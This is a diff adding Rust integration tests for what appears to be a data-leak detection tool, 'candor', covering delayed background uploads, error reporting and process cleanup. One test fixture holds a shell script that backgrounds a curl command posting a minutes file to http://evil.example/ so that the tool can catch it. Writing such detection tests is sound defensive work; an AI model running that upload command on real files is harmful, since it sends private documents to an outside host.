@@ -76,6 +76,46 @@ fn a_document_that_is_sent_is_named() {
 }
 
 #[test]
+fn what_a_background_process_sends_later_is_found() {
+    if !can_enclose("a command that leaves a process behind") {
+        return;
+    }
+    let folder = tempfile::tempdir().expect("a folder");
+    let script = "cat \"$1\"/* >/dev/null; (sleep 2; \
+         curl -s --data-binary @\"$(ls \"$1\"/minutes-*.txt | head -1)\" http://evil.example/) \
+         >/dev/null 2>&1 &";
+    let (_, ran, answers) = run(folder.path(), "1", script);
+    assert_eq!(ran.code, Some(1), "{}", reasons(&answers));
+}
+
+#[test]
+fn a_damaged_bundle_is_told_though_messages_go_to_a_file() {
+    let folder = tempfile::tempdir().expect("a folder");
+    fs::write(folder.path().join("a.bundle"), [7; 4096]).expect("a bundle");
+    let said = fs::File::create(folder.path().join("said")).expect("a file");
+    let status = Command::new(lab_program("candor"))
+        .current_dir(folder.path())
+        .args(["lab", "report", "a.bundle"])
+        .stdin(Stdio::null())
+        .stderr(said)
+        .status();
+    assert_eq!(status.expect("it runs").code(), Some(2));
+    let said = fs::read_to_string(folder.path().join("said")).expect("what it said");
+    assert!(!said.contains("139") && said.lines().count() > 1, "{said}");
+}
+
+#[test]
+fn a_missing_command_is_told_with_the_remedy() {
+    if !can_enclose("no command") {
+        return;
+    }
+    let folder = tempfile::tempdir().expect("a folder");
+    let ran = lab(folder.path(), &["run", "-o", "a.bundle"]);
+    assert_eq!(ran.code, Some(2), "{ran:?}");
+    assert!(ran.err.contains("-- COMMAND {documents}"), "{}", ran.err);
+}
+
+#[test]
 fn a_document_that_leaves_by_names_is_found() {
     if !can_enclose("a command that asks for names") {
         return;
@@ -180,8 +220,10 @@ fn an_interrupt_leaves_nothing_behind() {
             "-o",
             "a.bundle",
             "--",
-            "sleep",
-            "600",
+            "sh",
+            "-c",
+            "sleep 600",
+            "s",
             "{documents}",
         ])
         .stdin(Stdio::null())
@@ -191,13 +233,9 @@ fn an_interrupt_leaves_nothing_behind() {
     std::thread::sleep(Duration::from_secs(2));
     let recorder = children_of(child.id());
     assert_eq!(recorder.len(), 1, "one recorder");
-    // As a terminal does it: to each of them.
-    for process in recorder.iter().chain([&child.id()]) {
-        let status = Command::new("kill")
-            .args(["-INT", &process.to_string()])
-            .status();
-        assert!(status.expect("kill runs").success());
-    }
+    // As a service manager does it: to candor alone.
+    let status = Command::new("kill").arg(child.id().to_string()).status();
+    assert!(status.expect("kill runs").success());
     let deadline = Instant::now() + Duration::from_secs(20);
     let status = loop {
         match child.try_wait().expect("it can be waited for") {
@@ -212,6 +250,10 @@ fn an_interrupt_leaves_nothing_behind() {
         .flatten()
         .collect();
     assert!(left.is_empty(), "{left:?}");
+    for process in recorder {
+        let path = format!("/proc/{process}");
+        assert!(!Path::new(&path).exists(), "the recorder goes on");
+    }
 }
 
 fn children_of(parent: u32) -> Vec<u32> {
